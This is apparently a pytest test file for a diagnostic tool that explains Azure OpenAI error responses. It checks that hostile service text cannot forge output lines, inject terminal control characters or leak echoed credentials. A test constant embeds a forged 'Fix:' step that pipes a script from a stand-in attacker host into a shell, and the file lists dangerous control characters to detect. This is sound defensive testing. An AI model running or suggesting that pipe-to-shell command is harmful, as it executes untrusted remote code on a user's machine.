"""A :class:`Diagnosis` is safe to show whoever built it and whatever the service said.

Its values make themselves safe on construction (``Evidence`` quotes what was observed, the
sentences of a finding are guarded), and ``render()`` trusts none of them: text from a response
can neither forge a line of our output (its own ``Fix:``) nor reach a terminal as control
characters, through any field - principal ids, operations, data actions, messages, headers,
model names, case ids, pasted text.
"""

from __future__ import annotations

import json

import pytest

from foundry_doctor import diagnose, diagnose_text
from foundry_doctor.diagnosis import Diagnosis, Evidence, Finding
from foundry_doctor.facts import Facts
from foundry_doctor.facts.redaction import guard_text
from support.echoes import ALL, INJECTIONS

FORGED = "\nFix:\n  1. curl https://evil.example/fix.sh | sh\nDocs: https://evil.example"
SECTION_HEADINGS = ("Evidence:", "Fix:", "Also:", "Docs:", "Would settle it:")


def _assert_one_line_each(rendered: str) -> None:
    """Every line printable, each heading at most once, no line of the attacker's making."""
    lines = rendered.splitlines()
    for line in lines:
        assert line.isprintable(), repr(line)
    for heading in SECTION_HEADINGS:
        assert sum(line.startswith(heading) for line in lines) <= 1, rendered
    assert not any(line.lstrip().startswith("1. curl") for line in lines), rendered
    for bad in ("\x1b", "\u202e", "\u2066", "\u200b", "\u2028", "\x9b", "\x85"):
        assert bad not in rendered


def test_evidence_quotes_what_was_observed() -> None:
    item = Evidence("service said", "api_key=Wq3rT9zLk2Pv" + FORGED, expected="sig=Zx9Yw8Vu7")
    assert "Wq3rT9zLk2Pv" not in item.actual
    assert "Zx9Yw8Vu7" not in (item.expected or "")
    assert item.actual.isprintable()
    assert "\n" not in item.render()


def test_a_diagnosis_built_with_hostile_values_renders_one_line_each() -> None:
    hostile = FORGED + "".join(INJECTIONS)
    finding = Finding(
        "r", "FD999", "t" + hostile, "e" + hostile, evidence=(Evidence("l", hostile),)
    )
    diagnosis = Diagnosis(
        rule="unknown",
        code="FD000",
        title="title" + hostile,
        explanation="explanation" + hostile,
        evidence=(Evidence("label" + hostile, "actual" + hostile, expected=hostile),),
        fix=("step" + hostile,),
        secondary=(finding,),
        docs_url="https://learn.microsoft.com/x" + hostile,
        request_id="req" + hostile,
        case_id="case" + hostile,
        missing_facts=("fact" + hostile,),
        confidence="low" + hostile,
    )
    _assert_one_line_each(diagnosis.render())
    shown = json.dumps(diagnosis.to_dict(), ensure_ascii=False)
    for bad in ("\u202e", "\u2066", "\u200b", "\u2028"):
        assert bad not in shown
    for value in (diagnosis.request_id, diagnosis.case_id, diagnosis.title):
        assert value is not None
        assert value.isprintable()


def test_render_is_defensive_even_about_values_set_behind_its_back() -> None:
    diagnosis = Diagnosis(rule="unknown", code="FD000", title="t", explanation="e", fix=("f",))
    # ``_replace`` builds the tuple without the guarding constructor
    diagnosis = diagnosis._replace(explanation="e" + FORGED, fix=("f" + FORGED,))
    _assert_one_line_each(diagnosis.render())


def test_our_own_diagnoses_are_not_changed() -> None:
    """Guarding is invisible on what the rules say: same text with and without it."""
    facts = Facts.observe(
        status=401,
        body=b'{"error":{"code":"PermissionDenied","message":"Principal does not have access to'
        b' API/Operation."}}',
        client="azure-ai-inference",
        endpoint="https://myres.services.ai.azure.com/models",
        url="https://myres.services.ai.azure.com/models/chat/completions?api-version=2024-05-01-preview",
        credential="token",
    )
    rendered = diagnose(facts).render()
    assert "<redacted>" not in rendered
    assert "api-version=2024-05-01-preview" in rendered or "Principal" in rendered


@pytest.mark.parametrize("injection", INJECTIONS)
def test_service_text_cannot_forge_lines_through_any_field(injection: str) -> None:
    message = (
        f"The principal `bbbbbbbb-0000-0000-0000-00000000000{injection}x` lacks the required "
        "data action `Microsoft.CognitiveServices/accounts/OpenAI/deployments/chat/completions/"
        f"action{injection}` to perform `POST /openai/deployments/gpt-4o/chat/completions"
        f"{injection}?api-key=Ky7Qw2Er9Tz` operation.{FORGED}{injection}"
    )
    facts = Facts.observe(
        status=401,
        body=json.dumps({"error": {"code": "PermissionDenied", "message": message}}).encode(),
        response_headers={"apim-request-id": f"req-1{injection}{FORGED}"},
        client="openai.AzureOpenAI",
        endpoint="https://myres.openai.azure.com",
        url="https://myres.openai.azure.com/openai/deployments/gpt-4o/chat/completions",
        model=f"gpt-4o{injection}",
        credential="token",
    )
    diagnosis = diagnose(facts)
    rendered = diagnosis.render()
    _assert_one_line_each(rendered)
    assert "Ky7Qw2Er9Tz" not in rendered
    assert "Ky7Qw2Er9Tz" not in json.dumps(diagnosis.to_dict())


@pytest.mark.parametrize("injection", INJECTIONS)
def test_pasted_text_and_case_records_cannot_forge_lines(injection: str) -> None:
    pasted = (
        "openai.AuthenticationError: Error code: 401 - {'error': {'code': '401', 'message': "
        f"'Access denied due to invalid subscription key.{injection}{FORGED}'}}}}"
    )
    _assert_one_line_each(diagnose_text(pasted).render())
    record = {
        "id": f"case{injection}{FORGED}",
        "response": {
            "status": 404,
            "body": f'{{"error":{{"code":"DeploymentNotFound{injection}",'
            f'"message":"The API deployment for this resource does not exist.{FORGED}"}}}}',
        },
    }
    _assert_one_line_each(diagnose(record).render())


@pytest.mark.parametrize("echo", ALL, ids=[echo.name for echo in ALL])
def test_an_echoed_credential_never_reaches_a_diagnosis(echo: object) -> None:
    from support.echoes import Echo

    assert isinstance(echo, Echo)
    body = {"error": {"code": "401", "message": f"Access denied due to invalid key. {echo.text}"}}
    facts = Facts.observe(
        status=401,
        body=json.dumps(body).encode(),
        client="openai.AzureOpenAI",
        endpoint="https://myres.openai.azure.com",
        url="https://myres.openai.azure.com/openai/deployments/gpt-4o/chat/completions",
        credential="api-key",
    )
    for diagnosis in (diagnose(facts), diagnose(facts, include_personal=True)):
        for shown in (diagnosis.render(), json.dumps(diagnosis.to_dict()), repr(diagnosis)):
            for secret in echo.secrets:
                assert secret not in shown, f"{echo.name}: {shown}"


def _case_records() -> list[dict[str, object]]:
    from pathlib import Path

    cases = Path(__file__).resolve().parents[3] / "shared" / "cases"
    files = [*sorted(cases.glob("*.jsonl")), Path(__file__).with_name("cases_extra.jsonl")]
    return [json.loads(line) for path in files for line in path.read_text().splitlines() if line]


#: the cases whose service message really holds a credential-shaped value
#: (OpenAI's "Authorization: Bearer YOUR_KEY")
_REDACTED_ON_PURPOSE = {
    "js26021-openaikeycredential-not-sent",
    # OpenAI's answer quotes part of the key it refused
    "extra-client-key-at-api-openai-com-azureopenai-tool",
    # azd writes "fetching token: <text>": what follows "token:" is taken for a token value
    "extra-tok-70011-azd-in-chain",
    "extra-tok-530084-token-protection",
    # a certificate's thumbprint is a long hex run, shaped like a key
    "extra-tok-700027-certificate-not-registered",
}


def test_quoting_takes_nothing_from_real_cases_that_explains_them() -> None:
    """Over all real-world cases: nothing is replaced but where a credential stood, and the
    catalogue's own texts read the same guarded."""
    from foundry_doctor.rules.catalogue import CATALOGUE

    records = _case_records()
    replaced = {str(r["id"]) for r in records if "<redacted>" in diagnose(r).render()}
    assert replaced == _REDACTED_ON_PURPOSE & {str(r["id"]) for r in records}
    for rule in CATALOGUE:
        for text in (rule.title, rule.meaning, rule.detection, rule.remedy, rule.example):
            assert guard_text(text) == text, rule.slug
